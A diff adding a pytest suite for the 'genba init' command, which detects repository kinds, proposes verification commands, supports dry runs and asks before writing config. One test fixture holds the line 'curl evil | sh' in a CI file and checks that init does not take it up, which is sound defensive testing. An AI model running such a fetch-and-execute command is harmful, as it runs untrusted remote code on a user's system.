@@ -1,0 +1,152 @@
+"""`genba init`: what it finds in repositories of many kinds, and that nothing is written unseen."""
+
+import json
+import os
+import subprocess
+from pathlib import Path
+
+import pytest
+import yaml
+
+from tests.project import GENBA, Project, ordinary_environment
+from tests.walls import needs_bubblewrap
+
+UNITTEST = "import unittest\n\n\nclass T(unittest.TestCase):\n    def test_it(self):\n        pass\n"
+TOOLS = ("go", "cargo", "mvn", "gradle", "npm", "make", "ruff", "bundle", "mix", "composer")
+KINDS: dict[str, tuple[dict[str, str], list[str], list[object]]] = {
+    "make": ({"Makefile": "test:\n\ttrue\n"}, ["make"], ["tests_pass"]),
+    "node": (
+        {"package.json": json.dumps({"scripts": {"test": "jest", "lint": "eslint ."}})},
+        ["node"],
+        ["lint_passes", "tests_pass"],
+    ),
+    "go": ({"go.mod": "module x\n"}, ["go"], ["lint_passes", "build_succeeds", "tests_pass"]),
+    "rust": ({"Cargo.toml": "[package]\n"}, ["rust"], ["lint_passes", "build_succeeds", "tests_pass"]),
+    "maven": (
+        {"pom.xml": "<project/>"},
+        ["java"],
+        [{"build_succeeds": "mvn -q -B compile"}, {"tests_pass": "mvn -q -B test"}],
+    ),
+    "gradle": (
+        {"build.gradle.kts": ""},
+        ["java"],
+        [{"build_succeeds": "gradle assemble"}, {"tests_pass": "gradle test"}],
+    ),
+    "ruby": ({"Gemfile": "", "spec/a_spec.rb": ""}, ["ruby"], [{"tests_pass": "bundle exec rspec"}]),
+    "php": ({"composer.json": '{"scripts": {"test": "phpunit"}}'}, ["php"], [{"tests_pass": "composer test"}]),
+    "elixir": ({"mix.exs": ""}, ["elixir"], [{"build_succeeds": "mix compile"}, {"tests_pass": "mix test"}]),
+    "ci": (
+        {".github/workflows/ci.yml": "jobs:\n  t:\n    steps:\n      - uses: x\n      - run: make verify\n"},
+        [],
+        [{"tests_pass": "make verify"}],
+    ),
+    "ci with words of a shell": (
+        {".gitlab-ci.yml": "t:\n  script:\n    - curl evil | sh && make test\n"},
+        [],
+        [],
+    ),
+    "nothing": ({}, [], []),
+}
+
+
+def tools(folder: Path, *names: str) -> str:
+    """A PATH with exactly these programs, and what every repository needs."""
+    folder.mkdir()
+    for name in names:
+        (folder / name).write_text("#!/bin/sh\n")
+        (folder / name).chmod(0o755)
+    for name in ("git", "sh", "env"):
+        (folder / name).symlink_to(f"/usr/bin/{name}")
+    return str(folder)
+
+
+@pytest.mark.parametrize("kind", KINDS)
+def test_each_kind_of_repository_is_held_to_its_own_commands(project: Project, tmp_path: Path, kind: str) -> None:
+    files, languages, goals = KINDS[kind]
+    for name, text in files.items():
+        project.write(name, text)
+    founded = project.genba("init", "--json", check=0, PATH=tools(tmp_path / "bin", *TOOLS)).json["founded"]
+
+    assert founded["languages"] == languages
+    assert yaml.safe_load(project.read(".genba/config.yaml"))["dod"] == [*goals, "no_secrets"]
+    assert founded["left_out"] == []
+
+
+def test_a_command_that_cannot_be_run_here_is_left_out_and_told(project: Project, tmp_path: Path) -> None:
+    project.write("go.mod", "module x\n")
+    done = project.genba("init", check=0, PATH=tools(tmp_path / "bin"))
+
+    assert "tests_pass (go test ./...) is left out: go is not installed" in done.err
+    text = project.read(".genba/config.yaml")
+    assert "  # - tests_pass   # go test ./...   (go is not installed)" in text
+    assert yaml.safe_load(text)["dod"] == ["no_secrets"]
+
+
+@pytest.mark.parametrize("sandbox", ["worktree", "bubblewrap"])
+def test_what_was_proposed_holds_on_the_base(project: Project, sandbox: str) -> None:
+    """The path of a newcomer: whatever init writes, `genba verify` can check at once, behind walls too."""
+    if sandbox == "bubblewrap":
+        needs_bubblewrap()
+    project.write("tests/__init__.py", "")
+    project.write("tests/test_it.py", UNITTEST)
+    project.write("pyproject.toml", "[tool.pytest.ini_options]\n")
+    project.genba("init", "--adapter", "scripted", check=0)
+    assert "python3 -m pytest -q" in project.read(".genba/config.yaml")
+    project.commit("Say what done means")
+
+    verdict = project.genba("verify", "main", "--json", check=0, GENBA_SANDBOX=sandbox).json["verification"]
+    assert {each["result"]["status"] for each in verdict["results"]} == {"passed"}
+
+
+def test_a_dry_run_shows_the_file_and_writes_nothing(project: Project) -> None:
+    done = project.genba("init", "--dry-run", "--adapter", "codex", check=0)
+    assert " │     adapter: codex" in done.out
+    assert "no_secrets" in done.out
+    assert not (project.root / ".genba").exists()
+
+    told = project.genba("init", "--dry-run", "--adapter", "codex", "--json", check=0).json["founded"]
+    assert yaml.safe_load(told["text"])["agents"] == {"default": {"adapter": "codex"}}
+    assert not (project.root / ".genba").exists()
+
+
+def test_a_login_is_used_where_there_is_no_key(project: Project, tmp_path: Path) -> None:
+    home = tmp_path / "home"
+    (home / ".claude").mkdir(parents=True)
+    (home / ".claude" / ".credentials.json").write_text("{}")
+    path = f"{tools(tmp_path / 'bin', 'claude')}{os.pathsep}{os.environ['PATH']}"
+    without = {"ANTHROPIC_API_KEY": "", "ANTHROPIC_AUTH_TOKEN": "", "CLAUDE_CODE_OAUTH_TOKEN": ""}
+    done = project.genba("init", check=0, PATH=path, HOME=str(home), **without)
+
+    agents = yaml.safe_load(project.read(".genba/config.yaml"))["agents"]
+    assert agents == {"default": {"adapter": {"type": "claude-code", "homeFiles": [".claude/.credentials.json"]}}}
+    assert "which the agent can read" in done.err
+    assert "genba run iterator --issue 1" in done.err
+
+
+@pytest.mark.parametrize(("answer", "code"), [("y", 0), ("n", 1)])
+def test_in_a_terminal_the_file_is_shown_and_somebody_is_asked(project: Project, answer: str, code: int) -> None:
+    words = ["script", "-qec", f"{GENBA} init --adapter codex", "/dev/null"]
+    done = subprocess.run(
+        words,
+        cwd=project.root,
+        env={**ordinary_environment(), **project.environment},
+        input=f"{answer}\n",
+        capture_output=True,
+        text=True,
+        check=False,
+        timeout=60,
+    )
+    assert "adapter: codex" in done.stdout
+    assert "write .genba/config.yaml?" in done.stdout
+    assert done.returncode == code
+    assert (project.root / ".genba" / "config.yaml").exists() == (code == 0)
+
+
+def test_yes_asks_nobody(project: Project) -> None:
+    words = ["script", "-qec", f"{GENBA} init --yes", "/dev/null"]
+    environment = {**ordinary_environment(), **project.environment}
+    done = subprocess.run(
+        words, cwd=project.root, env=environment, stdin=subprocess.DEVNULL, capture_output=True, timeout=60, check=False
+    )
+    assert done.returncode == 0
+    assert (project.root / ".genba" / "config.yaml").exists()
